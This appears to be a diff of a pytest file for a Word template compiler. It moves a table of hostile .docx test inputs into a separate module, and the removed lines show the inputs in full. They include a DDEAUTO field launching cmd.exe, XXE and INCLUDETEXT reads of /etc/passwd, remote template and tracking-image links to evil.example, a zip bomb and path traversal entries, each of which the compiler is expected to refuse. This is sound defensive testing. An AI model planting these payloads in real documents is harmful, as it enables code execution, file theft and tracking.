@@ -1,87 +1,21 @@
 import io
 import zipfile
-from collections.abc import Mapping
-from random import Random
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from assistant.drafting.word.engine import compile_template
-from assistant.drafting.word.intake import MOST_PARTS, admit
+from assistant.drafting.word.intake import admit
 from assistant.drafting.word.values import Footnote, RichText, Run
 from assistant.errors import RefusedTemplateError
-from tests.drafting.word.building import NAMESPACES, OFFICE, body_of, make_document, pack, paragraph, unpack
-
-GOOD = unpack(make_document("Dear {{ name }},", footer1=paragraph("Page")))
-_BOMB = b"<x>" + b" " * (3 << 20) + b"</x>"
-_RELATION = f'<Relationship Id="bad" Type="{OFFICE}/%s" Target="%s"%s/></Relationships>'
+from tests.drafting.word.building import body_of, make_document, pack, paragraph
+from tests.drafting.word.hostile import FILES, GOOD, document, field, related
 
 
-def related(kind: str, target: str, *, external: bool = True) -> dict[str, bytes]:
-    mode = ' TargetMode="External"' if external else ""
-    added = (_RELATION % (kind, target, mode)).encode()
-    name = "word/_rels/document.xml.rels"
-    return {name: GOOD[name].replace(b"</Relationships>", added)}
-
-
-def document(inside: str) -> dict[str, bytes]:
-    return {"word/document.xml": f"<w:document {NAMESPACES}><w:body>{inside}</w:body></w:document>".encode()}
-
-
-def field(*code: str) -> str:
-    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code)
-    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
-
-
-HOSTILE: dict[str, tuple[Mapping[str, bytes], str]] = {
-    "macros": ({"word/vbaProject.bin": b"x"}, "macros"),
-    "macros by another name": (
-        {"[Content_Types].xml": GOOD["[Content_Types].xml"].replace(b"document.main", b"document.macroEnabled.main")},
-        "macros",
-    ),
-    "an ActiveX control": ({"word/activeX/activeX1.xml": b"<x/>"}, "controls"),
-    "an embedded object": ({"word/embeddings/oleObject1.bin": b"x"}, "embedded objects"),
-    "an embedded object by relation": (related("oleObject", "thing.bin", external=False), "embedded objects"),
-    "a page of another format": (related("aFChunk", "page.html", external=False), "embedded objects"),
-    "an entity": (
-        {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]>' + GOOD["word/document.xml"]},
-        "document type",
-    ),
-    "an outside entity in a header": (
-        {"word/header9.xml": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'},
-        "document type",
-    ),
-    "an entity in another encoding": (
-        {"word/header9.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")},
-        "UTF-8",
-    ),
-    "an entity in UTF-7": ({"word/header9.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}, "UTF-8"),
-    "a bomb": ({"word/theme/theme1.xml": _BOMB}, "bomb"),
-    "too much text": ({"word/x.xml": Random(1).randbytes(1 << 17).hex().encode() * 33}, "more than a letter can need"),
-    "too many parts": ({f"word/p{number}.xml": b"<x/>" for number in range(MOST_PARTS)}, "parts"),
-    "a way out of the file": ({"../../etc/passwd": b"x"}, "outside"),
-    "a way out for Windows": ({"word\\..\\..\\x": b"x"}, "outside"),
-    "a template elsewhere": (related("attachedTemplate", "http://evil.example/t.dotm"), "another template"),
-    "a picture elsewhere": (related("image", "http://evil.example/track.png"), "from outside"),
-    "a frame elsewhere": (related("frame", "http://evil.example/"), "from outside"),
-    "a file fetched by a field": (document(field(' INCLUDETEXT "/etc/passwd"')), "INCLUDETEXT"),
-    "a program started by a field": (document(field("DDE", 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "DDEAUTO"),
-    "a simple field": (
-        document('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/></w:p>'),
-        "INCLUDEPICTURE",
-    ),
-    "a document in the strict dialect": (
-        {"word/document.xml": GOOD["word/document.xml"].replace(b"schemas.openxmlformats.org", b"purl.oclc.org")},
-        "Strict",
-    ),
-    "broken markup": ({"word/document.xml": b"<w:document>"}, "no valid XML"),
-}
-
-
-@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("hostile", FILES)
 def test_what_could_run_reach_out_or_eat_memory_is_refused_with_its_reason(hostile: str) -> None:
-    parts, reason = HOSTILE[hostile]
+    parts, reason = FILES[hostile]
     with pytest.raises(RefusedTemplateError, match=reason) as refused:
         compile_template(pack({**GOOD, **parts}), "bad.docx")
     assert str(refused.value).startswith("bad.docx: ")
